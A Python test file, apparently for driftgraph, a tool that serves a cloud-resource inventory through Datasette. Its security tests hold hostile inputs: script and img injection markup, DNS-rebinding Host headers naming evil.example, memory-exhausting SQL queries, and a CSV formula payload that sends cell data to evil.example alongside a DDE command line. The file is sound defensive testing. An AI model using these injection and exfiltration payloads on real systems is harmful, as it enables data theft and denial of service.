        assert page(fixture_db, links[resource_id]).text("resource-id") == resource_id


def test_ids_link_to_their_pages_in_tables_views_and_queries(fixture_db):
    def links(path, css_class):
        return page(fixture_db, path).hrefs(css_class)

    def stack(arn):
        return f"/{DB_NAME}/stack?{urlencode({'name': arn})}"
    edges = links(f"/{DB_NAME}/edges", "dg-resource-link")
    assert edges[ORDERS_FUNCTION] == resource_path(ORDERS_FUNCTION) and edges[ORDERS_ROLE] == resource_path(ORDERS_ROLE)
    assert edges[LAMBDA_LOG_GROUP] == resource_path(LAMBDA_LOG_GROUP)
    owners = page(fixture_db, f"/{DB_NAME}/owners")
    assert owners.hrefs("dg-resource-link")[ARTIFACTS_BUCKET] == resource_path(ARTIFACTS_BUCKET)
    assert owners.hrefs("dg-stack-link")[SHARED_STACK] == stack(SHARED_STACK)
    # Datasette's own foreign key link: an owner's version opens its resources row
    assert any(link["href"] == f"/{DB_NAME}/resources/5" and link["text"] == "orders-processor-role"
               for link in owners.links)
    assert links(f"/{DB_NAME}/current_owners", "dg-version-link")["5"] == f"/{DB_NAME}/resources/5"
    assert links(f"/{DB_NAME}/resources", "dg-scan-link")["1"] == f"/{DB_NAME}/scans/1"
    assert links(f"/{DB_NAME}/drift", "dg-resource-link")[ORDERS_QUEUE] == resource_path(ORDERS_QUEUE)
    # stacks: their ARN opens the stack query, in the tables and in queries
    assert links(f"/{DB_NAME}/stacks", "dg-stack-link")[BILLING_STACK] == stack(BILLING_STACK)
    assert links(f"/{DB_NAME}/stack_dependencies", "dg-stack-link")[SHARED_STACK] == stack(SHARED_STACK)
    assert links(f"/{DB_NAME}/cloudformation_stacks", "dg-stack-link")[ORDERS_STACK] == stack(ORDERS_STACK)
    assert links(f"/{DB_NAME}/cloudformation_stacks", "dg-resource-link") == {}
    # canned queries: resource ids, the other end of an edge, a stack's neighbours
    assert links(f"/{DB_NAME}/unmanaged", "dg-resource-link")[CI_ROLE] == resource_path(CI_ROLE)
    assert links(f"/{DB_NAME}/resource?{urlencode({'id': ORDERS_FUNCTION})}", "dg-resource-link") == {
        ORDERS_ROLE: resource_path(ORDERS_ROLE), LAMBDA_LOG_GROUP: resource_path(LAMBDA_LOG_GROUP)}
    assert links(f"/{DB_NAME}/stack?{urlencode({'name': 'shared-infra'})}", "dg-stack-link") == {
        ORDERS_STACK: stack(ORDERS_STACK), BILLING_STACK: stack(BILLING_STACK)}
    # not everything called id is a resource: a scan is not, nor a catalog row
    assert links(f"/{DB_NAME}/scans", "dg-resource-link") == {}
    assert links(f"/{DB_NAME}/resource_types", "dg-resource-link") == {}


def test_current_resources_facet_on_status_type_account_region_and_team(fixture_db):
    facets = query_json(fixture_db, "/current_resources.json?_extra=facet_results")["facet_results"]
    assert {"status", "type", "account", "region", "team"} <= set(facets)
    assert {r["value"]: r["count"] for r in facets["team"]["results"]} == {"orders": 2, "data": 1, "platform": 1}
    # the team of a `team` tag or a `Team` tag
    assert {r["id"] for r in query_rows(fixture_db, "current_resources", {"team": "orders"})} == {
        ORDERS_QUEUE, ORDERS_FUNCTION}


def test_a_facet_on_a_column_the_file_lacks_is_left_out(tmp_path):
    # a file whose views predate the team column (until its next scan rewrites them) still opens
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    connection = sqlite3.connect(db)
    connection.executescript("drop view current_resources; "
                             "create view current_resources as select * from resources where until_scan is null")
    connection.close()
    facets = query_json(db, "/current_resources.json?_extra=facet_results")["facet_results"]
    assert set(facets) == {"status", "type", "account", "region"}
    assert page(db, f"/{DB_NAME}/current_resources")


def test_resource_page_shows_the_creator_when_the_database_records_one(tmp_path):
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    assert page(db, resource_path(CI_ROLE)).text("creator") == "Creator"  # the table, no row for it yet
    assert "No creation event recorded for it." in fetch(db, resource_path(CI_ROLE))[0].text
    connection = sqlite3.connect(db)
    # rows written per scan, with a status: the latest scan's row, and why a creator is not known
    connection.execute("insert into creators (resource_id, principal, event_name, event_time, event_source, source, "
                       "event_id, scan_id, status) values (?, ?, ?, ?, ?, ?, ?, 2, 'found')",
                       (CI_ROLE, "arn:aws:iam::123456789012:user/alice", "CreateRole", "2024-05-30T14:02:11Z",
                        "iam.amazonaws.com", "cloudtrail", "5d8c7e1a-0000-4000-8000-000000000001"))
    connection.commit()
    role = page(db, resource_path(CI_ROLE))
    assert role.text("creators") == (
        "who event when from arn:aws:iam::123456789012:user/alice CreateRole (iam.amazonaws.com) "
        "2024-05-30T14:02:11Z cloudtrail event 5d8c7e1a-0000-4000-8000-000000000001")
    connection.execute("insert into creators (resource_id, principal, event_name, event_time, scan_id, status, via) "
                       "values (?, 'arn:aws:iam::123456789012:user/bob', 'CreateRole', '2024-05-30T14:02:11Z', 3, "
                       "'found', 'terraform')", (CI_ROLE,))
    connection.execute("insert into creators (resource_id, scan_id, status, reason) values (?, 3, 'not_found', ?)",
                       (ORDERS_ROLE, "no creating event in CloudTrail's 90 days of event history"))
    connection.commit()
    connection.close()
    assert page(db, resource_path(CI_ROLE)).text("creators") == (
        "who event when from arn:aws:iam::123456789012:user/bob via terraform CreateRole 2024-05-30T14:02:11Z")
    assert page(db, resource_path(ORDERS_ROLE)).text("creators") == (
        "who event when from Not known (not_found): no creating event in CloudTrail's 90 days of event history")


def test_planted_markup_stays_text_on_every_page(tmp_path):
    db = add_hostile_scans(build_fixture_db(tmp_path / f"{DB_NAME}.db"))
    shown = [f"/{DB_NAME}", resource_path(HOSTILE_ID), f"/{DB_NAME}/current_resources?_facet=team",
             f"/{DB_NAME}/resources", f"/{DB_NAME}/unmanaged", f"/{DB_NAME}/migration_components",
             f"/{DB_NAME}/resource?{urlencode({'id': HOSTILE_ID})}",
             f"/{DB_NAME}/current_resources?{urlencode({'team': PLANTED})}", f"/{DB_NAME}/resources/21"]
    for path, response in zip(shown, fetch(db, *shown)):
        assert response.status_code == 200, path
        assert PLANTED not in response.text and "<img src=x" not in response.text, path
        assert "&lt;script&gt;window.dgPlanted=1&lt;/script&gt;" in response.text, path
    hostile = page(db, resource_path(HOSTILE_ID))
    assert hostile.text("resource-id") == HOSTILE_ID
    assert PLANTED in hostile.text("tags") and PLANTED_IMG in hostile.text("tags")
    # on the landing page it is the week's new unmanaged resource, named as text and linked to its page
    landing = page(db, f"/{DB_NAME}")
    assert landing.hrefs("dg-resource-link")[PLANTED] == resource_path(HOSTILE_ID)


# ------------------------------------------------------------------------------------------------ read-only


def test_database_is_served_read_only_and_refuses_writes(fixture_db, monkeypatch):
    before = hashlib.sha256(fixture_db.read_bytes()).hexdigest()

    databases, arbitrary_write = fetch(
        fixture_db, "/-/databases.json", f"/{DB_NAME}.json?sql=delete+from+resources"
    )
    # mutable, so that a new scan shows (see test_a_new_scan_and_a_replaced_file_show_on_the_next_page_load)
    assert [(d["name"], d["is_mutable"]) for d in databases.json()] == [(DB_NAME, True)]
    assert arbitrary_write.status_code == 400
    assert "Statement must be a SELECT" in arbitrary_write.json()["error"]

    # even a canned query marked as a write, or a plugin calling execute_write, cannot write: every
    # connection Datasette opens to the file is read-only
    metadata = datasette_metadata(fixture_db)
    metadata["databases"][DB_NAME]["queries"]["wipe"] = {"sql": "delete from resources", "write": True}
    monkeypatch.setattr(serve_module, "datasette_metadata", lambda path, *args, **kwargs: metadata)
    ds = serve_module.make_app(fixture_db)

    async def attempt_writes():
        canned = await ds.client.post(f"/{DB_NAME}/wipe", json={}, headers={"accept": "application/json"})
        with pytest.raises(sqlite3.OperationalError, match="readonly"):
            await ds.databases[DB_NAME].execute_write("delete from owners")
        return canned

    refused = asyncio.run(attempt_writes())
    assert refused.json()["ok"] is False
    assert "readonly" in refused.json()["message"]

    assert hashlib.sha256(fixture_db.read_bytes()).hexdigest() == before
    assert len(query_rows(fixture_db, "unmanaged")) == 4


def test_a_path_with_uri_characters_is_served(tmp_path):
    # Datasette writes f"file:{path}?..." unquoted: a folder named "estates #2 ?%" would open "estates "
    folder = tmp_path / "estates #2 ?%"
    folder.mkdir()
    db = build_fixture_db(folder / f"{DB_NAME}.db")
    assert {r["name"] for r in query_rows(db, "unmanaged")} >= {"legacy-reports-queue", "payments-dlq"}


def test_the_bound_host_is_answered_besides_loopback(fixture_db):
    # serve binds 127.0.0.1 today; bound elsewhere, the Host list follows the address it binds
    ds = make_app(fixture_db, host="192.0.2.10")

    async def get_as(*hosts):
        return [(await ds.client.get(f"/{DB_NAME}/unmanaged.json", headers={"host": h})).status_code for h in hosts]

    assert asyncio.run(get_as("192.0.2.10:8001", "localhost:8001", "[::1]", "192.0.2.11", "evil.example")) == [
        200, 200, 200, 421, 421
    ]


def test_missing_database_is_a_clear_error(tmp_path):
    with pytest.raises(FileNotFoundError, match="no such database"):
        make_app(tmp_path / "nope.db")
    with pytest.raises(FileNotFoundError, match="no such database"):
        serve(tmp_path / "nope.db")


# --------------------------------------------------------------------------- `driftgraph serve`, a real process


@contextmanager
def serving(db: Path, log_path: Path):
    """`driftgraph serve --db DB --port N` in its own process, as a user starts it; yields (base URL, process)."""
    port = free_port()
    env = {"PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))}
    command = [sys.executable, "-m", "driftgraph", "serve", "--db", str(db), "--port", str(port)]
    with background_server(command, f"http://127.0.0.1:{port}/-/versions.json", env, log_path=log_path) as process:
        yield f"http://127.0.0.1:{port}", process


def request(base: str, path: str, host: str | None = None, read_at_most: int = 200 * 2**20):
    """GET `path` with the Host header given (the URL's by default); (status, body read up to `read_at_most`)."""
    port = int(base.rsplit(":", 1)[1])
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
    try:
        connection.putrequest("GET", path, skip_host=host is not None)
        if host is not None:
            connection.putheader("Host", host)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, response.read(read_at_most)
    finally:
        connection.close()


def memory_kb(pid: int) -> dict[str, int]:
    """The process's resident set now (VmRSS) and at its peak (VmHWM), in kB."""
    fields = dict(line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines())
    return {key: int(fields[key].split()[0]) for key in ("VmRSS", "VmHWM")}


def add_scan(db: Path, resource_name: str) -> int:
    """Commit one more scan of the fixture's account and regions to `db`, finding one unmanaged queue named
    `resource_name` and nothing else; its scan id."""
    writer = ScanWriter(db)
    scan_id = writer.begin({"started_at": "2024-06-15T09:00:00Z", "status": "running", "accounts": ["123456789012"]})
    writer.write_scopes([("123456789012", region) for region in ("us-east-1", "eu-west-1", "global", None)])
    writer.write(
        "resources",
        [
            {
                "id": f"arn:aws:sqs:us-east-1:123456789012:{resource_name}", "type": "AWS::SQS::Queue",
                "service": "sqs", "account": "123456789012", "region": "us-east-1", "name": resource_name,
                "natural_id": resource_name, "status": "unmanaged", "reason": "live, declared by no source",
                "rule": "no-owner", "owner_count": 0, "drift_count": 0,
            }
        ],
    )
    writer.finish({"finished_at": "2024-06-15T09:01:00Z", "status": "complete", "resource_count": 1})
    writer.commit()
    return scan_id


def test_a_new_scan_and_a_replaced_file_show_on_the_next_page_load(tmp_path):
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    latest = f"/{DB_NAME}/latest_scan.json?_shape=array"
    unmanaged = f"/{DB_NAME}/unmanaged.json?_shape=array"
    with serving(db, tmp_path / "serve.log") as (base, _):

        def names(path):
            status, body = request(base, path)
            assert status == 200, body[:500]
            return json.loads(body)

        assert [row["id"] for row in names(latest)] == [3]
        assert len(names(unmanaged)) == 4

        # a scan committed in place while serve runs
        new_id = add_scan(db, "queue-made-after-serve-started")
        assert [row["id"] for row in names(latest)] == [new_id] == [4]
        assert [row["name"] for row in names(unmanaged)] == ["queue-made-after-serve-started"]

        # a database copied over the file (a new inode): served from the next page load on
        replacement = tmp_path / "replacement.db"
        add_scan(replacement, "queue-in-the-replacement")
        os.replace(replacement, db)
        assert [row["id"] for row in names(latest)] == [1]
        assert [row["name"] for row in names(unmanaged)] == ["queue-in-the-replacement"]

        # and a scan into the replacement shows too
        add_scan(db, "second-scan-of-the-replacement")
        assert [row["name"] for row in names(unmanaged)] == ["second-scan-of-the-replacement"]


# A scan writer that stops as `kill -9` would stop it: mid-transaction, with pages of the database already
# overwritten (20 MB of rows spill past SQLite's 2 MB cache) and their originals in the rollback journal.
KILLED_SCAN = """
import sys, time
from graph.store import ScanWriter
writer = ScanWriter(sys.argv[1])
writer.begin({"status": "running"})
rows = [{"id": f"half-written-{i}", "name": "x" * 1000, "status": "unmanaged"} for i in range(20000)]
writer.write("resources", rows)
writer.finish({"status": "complete"})  # the versions written, not committed
print("written", flush=True)
time.sleep(120)
"""


def test_a_scan_killed_while_serving_leaves_the_last_scan_on_show(tmp_path):
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    with serving(db, tmp_path / "serve.log") as (base, _):
        env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))}
        writer = subprocess.Popen(
            [sys.executable, "-c", KILLED_SCAN, str(db)], stdout=subprocess.PIPE, text=True, env=env
        )
        try:
            assert writer.stdout.readline().strip() == "written"
            assert Path(f"{db}-journal").stat().st_size > 0
        finally:
            os.kill(writer.pid, signal.SIGKILL)
            writer.wait()
            writer.stdout.close()

        status, body = request(base, f"/{DB_NAME}/latest_scan.json?_shape=array")
        assert status == 200, body[:500]
        assert [row["id"] for row in json.loads(body)] == [3]
        status, body = request(base, f"/{DB_NAME}/unmanaged.json?_shape=array")
        assert status == 200 and b"half-written" not in body and b"legacy-reports-queue" in body
    # no hot journal lingers: a scan that spilled pages into the file left one the readers rolled back; one whose
    # pages all stayed in its page cache never touched the file and leaves a journal whose header SQLite never
    # wrote (zeros: not hot, nothing to roll back), replaced by the next writer
    journal = Path(f"{db}-journal")
    assert not journal.exists() or journal.read_bytes()[:8] == bytes(8)
    assert sqlite3.connect(db).execute("pragma integrity_check").fetchone()[0] == "ok"


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """One `driftgraph serve` process over its own copy of the fixture graph, for tests that only read."""
    workdir = tmp_path_factory.mktemp("served")
    db = build_fixture_db(workdir / f"{DB_NAME}.db")
    with serving(db, workdir / "serve.log") as (base, process):
        yield {"base": base, "process": process, "db": db, "log": workdir / "serve.log"}


def test_only_loopback_host_names_are_answered(served):
    base = served["base"]
    port = base.rsplit(":", 1)[1]
    page = f"/{DB_NAME}/unmanaged"
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "localhost", f"LOCALHOST.:{port}", f"[::1]:{port}"):
        status, body = request(base, page, host=host)
        assert status == 200 and b"legacy-reports-queue" in body, host
    # DNS rebinding: a page of evil.example whose name now resolves to 127.0.0.1 must not read the inventory
    for host in ("evil.example", f"evil.example:{port}", f"127.0.0.1.evil.example:{port}", "", "[::1"):
        status, body = request(base, page, host=host)
        assert status in (400, 421), host
        assert b"legacy-reports-queue" not in body
    assert served["process"].poll() is None


HUGE = 1_000_000_000  # the size that drove an unguarded Datasette to 7.5 GB

# Queries that ask SQLite to build a value of about 1 GB, several ways.
HUGE_VALUE_QUERIES = {
    "randomblob": f"select randomblob({HUGE})",
    "zeroblob": f"select zeroblob({HUGE})",
    "recursive_concatenation": (
        f"with recursive s(x) as (select 'x' union all select x || x from s where length(x) < {HUGE}) "
        "select length(x) from s"
    ),
    "many_columns": "select " + ", ".join(["zeroblob(8000000)"] * 120),
}


def sql_page(sql: str, extension: str = "") -> str:
    return f"/{DB_NAME}{extension}?sql={quote(sql)}"


def assert_still_small_and_serving(served):
    # "far below 1 GB": serve starts near 50 MB and the 64 MB response of the cap test peaks near 260 MB;
    # the peak (VmHWM), not the RSS after the fact, proves nothing big was built
    memory = memory_kb(served["process"].pid)
    assert memory["VmHWM"] < 400 * 1024, memory
    status, body = request(served["base"], f"/{DB_NAME}/unmanaged.json?_shape=array")
    assert status == 200 and b"legacy-reports-queue" in body


@pytest.mark.parametrize("name", sorted(HUGE_VALUE_QUERIES))
def test_a_query_that_builds_a_huge_value_is_refused(served, name):
    started = time.monotonic()
    status, body = request(served["base"], sql_page(HUGE_VALUE_QUERIES[name]))
    assert time.monotonic() - started < 30  # generous: proves it is refused, not built (and does not hang)
    assert status == 400, body[:500]
    assert b"too big" in body or b"more than the 128 MB of memory" in body, body[:2000]
    assert_still_small_and_serving(served)


def test_printf_cannot_build_a_huge_string_or_spin(served):
    # SQLite's printf answers NULL, not an error, when its result would pass the length limit; SQLite 3.40
    # first spins ~10 s per 10^9 repeats of %c, inside one call where no time limit reaches: five of them
    # held a query thread for over a minute
    repeat = f"printf('%.*c', {2 * HUGE}, 'x')"
    started = time.monotonic()
    status, body = request(served["base"], sql_page(f"select {', '.join([repeat] * 5)}", ".json"))
    assert time.monotonic() - started < 30  # generous: proves it neither builds the string nor spins
    assert status == 200 and len(body) < 10_000, body[:500]
    assert b'"rows": [[null, null, null, null, null]]' in body
    # printf is still SQLite's own otherwise
    status, body = request(served["base"], sql_page("select printf('%5.2f|%-*s|%.*c', 2.5, 4, 'ab', 3, 'z')", ".json"))
    assert status == 200 and b'"rows": [[" 2.50|ab  |zzz"]]' in body, body[:500]
    assert_still_small_and_serving(served)


def test_many_big_rows_are_refused(served):
    # each value within the length limit, but a thousand of them: the result as a whole is too large (without
    # the result budget, 40 such rows took 17 s and 2.3 GB; the time limit does not cut a row being copied)
    sql = (
        "with recursive n(i) as (select 1 union all select i + 1 from n where i < 1000) "
        "select i, b from n, (select randomblob(16000000) as b)"
    )
    started = time.monotonic()
    status, body = request(served["base"], sql_page(sql, ".json") + "&_size=max")
    assert time.monotonic() - started < 30  # generous: proves it does not hang
    assert status == 400, body[:500]
    assert b"too large" in body, body[:2000]
    assert_still_small_and_serving(served)


def test_a_response_larger_than_the_cap_is_refused(served):
    # 12 MB of control characters is 72 MB of JSON (each one escaped as \u0001): more than one response may be
    sql = "select printf('%.*c', 12000000, char(1)) as s"
    status, body = request(served["base"], sql_page(sql, ".json"))
    assert status == 400, (status, len(body))
    assert len(body) < 10_000 and b"too large" in body, body[:500]
    assert_still_small_and_serving(served)


def test_a_slow_query_is_cut_by_the_time_limit(served):
    endless = "with recursive n(i) as (select 1 union all select i + 1 from n) select count(*) from n"
    started = time.monotonic()
    status, body = request(served["base"], sql_page(endless))
    assert time.monotonic() - started < 30  # generous: proves the time limit cuts it
    assert status == 400
    assert b"SQL query took too long" in body
    assert_still_small_and_serving(served)


# ------------------------------------------------------------------------------ `driftgraph serve`, bad input


def run_serve(*args: str, timeout: float = 60) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))}
    return subprocess.run(
        [sys.executable, "-m", "driftgraph", "serve", *args], capture_output=True, text=True, timeout=timeout,
        env=env,
    )


def assert_one_line_error(result: subprocess.CompletedProcess, exit_code: int, *words: str) -> None:
    assert result.returncode == exit_code, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr + result.stdout
    message = result.stderr.strip()
    if exit_code == 1:
        assert message.startswith("Error: ") and "\n" not in message, message
    for word in words:
        assert word in message, message


def test_serve_refuses_what_is_not_a_driftgraph_database(tmp_path):
    text = tmp_path / "notes.db"
    text.write_text("not a database\n")
    empty = tmp_path / "empty.db"
    empty.touch()
    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("create table photos (id, path)").connection.close()
    folder = tmp_path / "folder.db"
    folder.mkdir()
    cases = {
        text: "not an SQLite database",
        empty: "holds no driftgraph scan",
        other: "another application's SQLite database",
        folder: "is a directory",
        tmp_path / "missing.db": "no such database",
    }
    for path, words in cases.items():
        assert_one_line_error(run_serve("--db", str(path), "--port", "0"), 1, str(path), words)


def test_serve_refuses_a_port_out_of_range(tmp_path):
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    for port in ("99999", "-1"):
        assert_one_line_error(run_serve("--db", str(db), "--port", port), 2, "--port")


def test_serve_on_a_port_in_use_says_so(tmp_path):
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        # the timeout proves it does not hang serving nothing
        assert_one_line_error(run_serve("--db", str(db), "--port", str(port), timeout=60), 1, str(port), "in use")


def test_serve_on_port_zero_prints_the_real_url(tmp_path):
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))}
    process = subprocess.Popen(
        [sys.executable, "-m", "driftgraph", "serve", "--db", str(db), "--port", "0"],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env,
    )
    try:
        # the first line says where it serves; the timeout proves it does not hang before saying so
        assert select.select([process.stdout], [], [], 60)[0], "serve printed nothing in 60 s"
        line = process.stdout.readline()
        url = next(word for word in line.split() if word.startswith("http://"))
        base, _, path = url.partition(f"/{DB_NAME}")
        port = int(base.rsplit(":", 1)[1])
        assert port != 0 and base == f"http://127.0.0.1:{port}", line
        status, body = request(base, f"/{DB_NAME}/unmanaged")
        assert status == 200 and b"legacy-reports-queue" in body
    finally:
        process.terminate()
        process.wait(timeout=10)
        process.stdout.close()


def test_errors_are_one_log_line_not_a_console_dump_and_absolute_targets_are_refused(served):
    base = served["base"]
    assert request(base, f"/{DB_NAME}/no_such_table")[0] == 404
    assert request(base, sql_page("select * from no_such_table"))[0] == 400
    status, _ = request(base, f"http://evil.example/{DB_NAME}/unmanaged", host="localhost")
    assert status == 400
    log = served["log"].read_text()
    assert "Traceback" not in log and "locals" not in log.lower(), log[-2000:]
    assert "GET /estate/no_such_table: 404" in log
    assert served["process"].poll() is None


def test_csv_exports_open_as_data_not_formulas(served):
    base = served["base"]
    sql = "select '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")' as a, '+cmd|'' /C calc''!A0' as b, -5 as n, 'ok' as c"
    status, body = request(base, sql_page(sql, ".csv"))
    assert status == 200
    text = body.decode()
    assert "'=HYPERLINK" in text and "'+cmd" in text and ",-5," in text and text.rstrip().endswith("ok")
    status, body = request(base, f"/{DB_NAME}/resources.csv?_stream=on")
    assert status == 200 and b"legacy-reports-queue" in body


def test_the_printed_url_opens_the_database_whatever_its_name(tmp_path):
    db = build_fixture_db(tmp_path / "prod estate#2.db")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))}
    process = subprocess.Popen([sys.executable, "-m", "driftgraph", "serve", "--db", str(db), "--port", "0"],
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env)
    try:
        assert select.select([process.stdout], [], [], 60)[0], "serve printed nothing in 60 s"
        url = next(word for word in process.stdout.readline().split() if word.startswith("http://"))
        base, path = url[: url.index("/", len("http://"))], url[url.index("/", len("http://")):]
        status, body = request(base, f"{path}/unmanaged")
        assert status == 200 and b"legacy-reports-queue" in body, url
    finally:
        process.terminate()
        process.wait(timeout=10)
        process.stdout.close()


# ------------------------------------------------------------------------------------------- read model


def test_the_summaries_agree_with_counts_over_the_views_after_every_scan_and_a_prune(tmp_path):
    from graph.store import prune

    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")

    def agree():
        conn = sqlite3.connect(db)
        try:
            assert conn.execute("select value from meta where key = 'summaries_of_scan'").fetchone()[0] == \
                str(conn.execute("select max(id) from scans").fetchone()[0])
            keys = "account, region, type, service, status, team"
            summary = conn.execute(f"select {keys}, resources from current_counts order by 1, 2, 3, 4, 5, 6").fetchall()
            counted = conn.execute(f"select {keys}, count(*) from current_resources group by {keys} "
                                   "order by 1, 2, 3, 4, 5, 6").fetchall()
            assert summary == counted and sum(row[-1] for row in summary) > 0
            keys = "account, region, type, status"
            assert conn.execute(f"select {keys}, versions from version_counts order by 1, 2, 3, 4").fetchall() == \
                conn.execute(f"select {keys}, count(*) from resources group by {keys} order by 1, 2, 3, 4").fetchall()
        finally:
            conn.close()

    agree()
    add_hostile_scans(db)
    agree()
    conn = sqlite3.connect(db)
    latest = conn.execute("select max(id) from scans").fetchone()[0]
    conn.close()
    assert prune(db, {latest})["versions"] > 0  # versions gone: counted again from what is left
    agree()


# migration_components as it read before current_components: every current resource grouped for each page
MIGRATION_COMPONENTS_BY_THE_ROWS = """
          with sizes as (
            select import_group, count(*) as size from current_resources
            where import_group is not null group by import_group
          )
          select
            r.import_group as component,
            coalesce(s.size, 0) as size,
            r.type,
            r.name,
            r.account,
            r.region,
            r.import_id,
            coalesce(json_extract(r.tags, '$.owner'), json_extract(r.tags, '$.Owner'), json_extract(r.tags, '$.team'),
                     json_extract(r.tags, '$.Team'), json_extract(r.tags, '$.created-by')) as owner_hint,
            r.id
          from current_resources r
          left join sizes s on s.import_group = r.import_group
          where r.status = 'unmanaged'
          order by size desc, r.import_group, r.type, r.name
"""


def test_migration_components_from_the_summary_are_the_rows_counted_from_the_resources(tmp_path):
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    add_hostile_scans(db)
    conn = sqlite3.connect(db)
    try:
        # one unmanaged resource in no component: it comes last, with size 0
        conn.execute("update resources set import_group = null where version = (select max(version) from "
                     "resources where until_scan is null and status = 'unmanaged')")
        conn.commit()
        expected = [tuple(row) for row in conn.execute(MIGRATION_COMPONENTS_BY_THE_ROWS)]
    finally:
        conn.close()
    assert len({row[0] for row in expected}) > 2 and expected[-1][:2] == (None, 0)
    assert any(row[1] > 1 for row in expected)  # a component of several resources
    rows = query_rows(db, "migration_components")
    assert [tuple(row.values()) for row in rows] == expected


def test_facets_counted_from_the_summaries_equal_the_rows_they_filter(fixture_db):
    conn = sqlite3.connect(fixture_db)

    def counts(where: str = "1", params=()) -> dict[str, int]:
        return dict(conn.execute(f"select type, count(*) from current_resources where {where} group by type", params))

    def facet(path: str) -> dict[str, int]:
        found = query_json(fixture_db, path)["facet_results"]["type"]
        assert found["type"] == "counted"
        return {r["value"]: r["count"] for r in found["results"]}

    assert facet("/current_resources.json?_extra=facet_results") == counts()
    # a filter the summary keeps, and one it does not (counted from the rows, as Datasette's column facet does)
    assert facet("/current_resources.json?_extra=facet_results&status=unmanaged") == counts("status = 'unmanaged'")
    assert counts("status = 'unmanaged'") != counts()
    assert facet("/current_resources.json?_extra=facet_results&name__contains=orders") == \
        counts("name like '%orders%'")
    versions = query_json(fixture_db, "/resources.json?_extra=facet_results")["facet_results"]["status"]["results"]
    assert {r["value"]: r["count"] for r in versions} == dict(
        conn.execute("select status, count(*) from resources group by status"))
    # a value links to the table filtered on it
    found = query_json(fixture_db, "/current_resources.json?_extra=facet_results")["facet_results"]["status"]
    assert all(r["toggle_url"].endswith(f"status={r['value']}") for r in found["results"])
    conn.close()


def test_a_summary_older_than_the_latest_scan_is_not_trusted(tmp_path):
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    conn = sqlite3.connect(db)
    conn.execute("update current_counts set resources = resources + 1000")  # as a scan that wrote no summary
    conn.execute("update meta set value = '1' where key = 'summaries_of_scan'")
    conn.commit()
    expected = dict(conn.execute("select status, count(*) from current_resources group by status"))
    conn.close()
    found = query_json(db, "/current_resources.json?_extra=facet_results")["facet_results"]["status"]["results"]
    assert {r["value"]: r["count"] for r in found} == expected
